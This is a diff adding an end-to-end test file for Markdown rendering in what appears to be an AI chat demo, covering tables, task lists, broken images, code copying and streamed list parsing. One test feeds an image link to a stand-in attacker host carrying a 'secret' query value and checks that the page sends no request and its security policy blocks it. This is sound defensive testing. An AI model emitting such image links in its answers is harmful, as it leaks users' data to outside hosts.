@@ -1,0 +1,124 @@
+import { describe, expect, test } from 'vitest'
+import { overflowOf } from './overflow'
+import { useVisits, type Visitor } from './visit'
+
+const { visit } = useVisits()
+
+interface InPage {
+  createBlockReader: typeof import('../../playground/src/markdown/blocks').createBlockReader
+}
+
+/** Has the demo model answer with this Markdown. */
+async function show(visitor: Visitor, source: string): Promise<void> {
+  await visitor.message.fill(`Repeat: ${source}`)
+  await visitor.message.press('Enter')
+  await visitor.run(1).reaches('complete')
+}
+
+describe('Markdown in an answer', () => {
+  test('aligns the columns of tables', async () => {
+    const visitor = await visit({ speed: 400 })
+    await show(visitor, '| a | b | c |\n| :-- | :-: | --: |\n| 1 | 2 | 3 |\n')
+    const alignments = await visitor.page
+      .locator('.prose td')
+      .evaluateAll((cells) => cells.map((cell) => getComputedStyle(cell).textAlign))
+    expect(alignments).toEqual(['start', 'center', 'end'])
+  })
+
+  test('shows task lists', async () => {
+    const visitor = await visit({ speed: 400 })
+    await show(visitor, '- [x] book\n- [ ] pack\n')
+    const tasks = visitor.page.locator('.prose li [role=img]')
+    expect(await tasks.evaluateAll((all) => all.map((task) => task.getAttribute('aria-label')))).toEqual([
+      'Done',
+      'Not done',
+    ])
+    expect(await visitor.page.locator('.prose').innerText()).not.toContain('[')
+  })
+
+  test('scrolls a wide table inside the card of a phone, also by keyboard', async () => {
+    const visitor = await visit({ viewport: { width: 360, height: 740 }, speed: 400 })
+    const row = (cell: string) => `|${` ${cell} |`.repeat(9)}\n`
+    await show(visitor, `${row('heading')}${row('---')}${row('cell text')}`)
+    expect(await overflowOf(visitor.page)).toEqual([])
+    const table = visitor.page.getByRole('group', { name: 'Table' })
+    await table.focus()
+    await visitor.page.keyboard.press('ArrowRight')
+    await expect.poll(() => table.evaluate((element) => element.scrollLeft)).toBeGreaterThan(0)
+  })
+
+  test('replaces a broken image by its description', async () => {
+    const visitor = await visit({ speed: 400 })
+    await show(visitor, 'Look: ![a river](data:image/png;base64,iVBORw0KGgo=)\n')
+    await visitor.page.locator('.prose .broken').getByText('a river').waitFor()
+    expect(await visitor.page.locator('.prose img').count()).toBe(0)
+  })
+
+  test('loads nothing from another host: an image there is a link, and the page has a security policy', async () => {
+    const visitor = await visit({ speed: 400, expected: /Content Security Policy/ })
+    const requests: string[] = []
+    visitor.page.on('request', (request) => requests.push(request.url()))
+    await show(visitor, '![secrets](https://evil.example/x.png?secret=1)\n')
+    const link = visitor.page.getByRole('link', { name: 'secrets (evil.example)' })
+    expect(await link.getAttribute('rel')).toContain('noreferrer')
+    expect(requests.filter((url) => url.includes('evil.example'))).toEqual([])
+    const isBlocked = await visitor.page.evaluate(
+      () =>
+        new Promise((resolve) => {
+          document.addEventListener('securitypolicyviolation', ({ blockedURI }) => resolve(blockedURI))
+          new Image().src = 'https://evil.example/y.png'
+        }),
+    )
+    expect(isBlocked).toContain('evil.example')
+  })
+
+  test('copies code without its language', async () => {
+    const visitor = await visit({ speed: 400, permissions: ['clipboard-read', 'clipboard-write'] })
+    const run = await visitor.ask('How does Stop work?')
+    await run.reaches('complete')
+    await run.card.getByRole('button', { name: 'Copy code' }).click()
+    await run.card.getByRole('button', { name: 'Copied' }).waitFor()
+    expect(await visitor.page.evaluate(() => navigator.clipboard.readText())).toMatch(/^const active = /)
+  })
+
+  test('a steered answer leaves no raw marks', async () => {
+    const visitor = await visit({ speed: 60 })
+    await visitor.press('Steer it')
+    const run = visitor.run(1)
+    await run.card.locator('[data-steer="consumed"]').waitFor({ timeout: 20_000 })
+    await run.reaches('complete')
+    expect(await run.text()).not.toContain('*')
+  })
+})
+
+test('a long list is read item by item: a token parses its own item only', async () => {
+  const visitor = await visit({ speed: 400 })
+  await visitor.page.evaluate(
+    "import('/src/markdown/blocks.ts').then(({ createBlockReader }) => Object.assign(window, { createBlockReader }))",
+  )
+  const { parsed, items, start, whole } = await visitor.page.evaluate(() => {
+    const read = (window as unknown as InPage).createBlockReader()
+    const text = Array.from({ length: 400 }, (_, index) => `${index + 3}. item **${index}**\n     - nested\n`).join('')
+    let longest = 0
+    let blocks = read('')
+    for (let end = 10; end <= text.length; end += 10) {
+      blocks = read(text.slice(0, end), (source) => {
+        longest = Math.max(longest, source.length)
+        return source
+      })
+    }
+    blocks = read(`${text}\nThe end.`)
+    const all = blocks.flat()
+    const [list] = all
+    return {
+      parsed: longest,
+      items: list?.kind === 'list' ? list.items.flat().length : 0,
+      start: list?.kind === 'list' ? list.list : undefined,
+      whole: all.length,
+    }
+  })
+  expect(parsed).toBeLessThan(70)
+  expect(items).toBe(400)
+  expect(start).toEqual({ tag: 'ol', start: 3 })
+  expect(whole).toBe(2)
+})
